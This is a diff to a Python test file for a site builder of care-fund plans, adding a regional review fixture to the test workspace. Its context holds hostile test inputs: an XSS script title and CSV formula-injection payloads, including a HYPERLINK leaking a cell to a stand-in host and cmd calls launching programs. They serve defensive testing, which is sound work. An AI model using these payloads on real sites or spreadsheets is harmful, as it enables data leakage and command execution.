@@ -43,6 +43,10 @@ HOSTILE_TEXT = f"""Opening paragraph of the hostile plan.
 """
 HOSTILE_TITLE = f"<script>window.{PWNED_FLAG}='title'</script> Local heading {{: onclick=\"window.{PWNED_FLAG}='attr'\" }}"
 SEARCHABLE_SCHEME = "Zebrafinch Community Reablement"
+REVIEW = {"reviewer": {"role": "NHS England regional BCF manager", "date": "2023-08-14"},
+          "recommendation": "approve", "summary": "A clear plan.",
+          "entries": {"nc1.pr1.organisations": {"assessment": "met", "comment": "Every partner is named."},
+                      "nc2.pr4.carers": {"assessment": "partly_met", "comment": "The carers offer needs figures."}}}
 CSV_FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+1+cmd|' /C notepad'!A0", "-2+3"]
 
@@ -135,7 +139,12 @@ def make_workspace(work: Path) -> tuple[Path, Path]:
     shutil.copy(ROOT / "mkdocs.yml", work / "mkdocs.yml")
     shutil.copytree(ROOT / "docs", work / "docs")
     shutil.copytree(ROOT / "plans", work / "plans")
-    return write_fixture_plans(work / "plans")
+    plans = write_fixture_plans(work / "plans")
+    # The fixture plan's regional assurance, so every page type with a review is built and checked.
+    review = work / "reviews" / "rutland" / "2023-25.yaml"
+    review.parent.mkdir(parents=True)
+    review.write_text(yaml.safe_dump(REVIEW, sort_keys=False, width=1000), encoding="utf-8")
+    return plans
 
 
 def bcfc_exe() -> str:
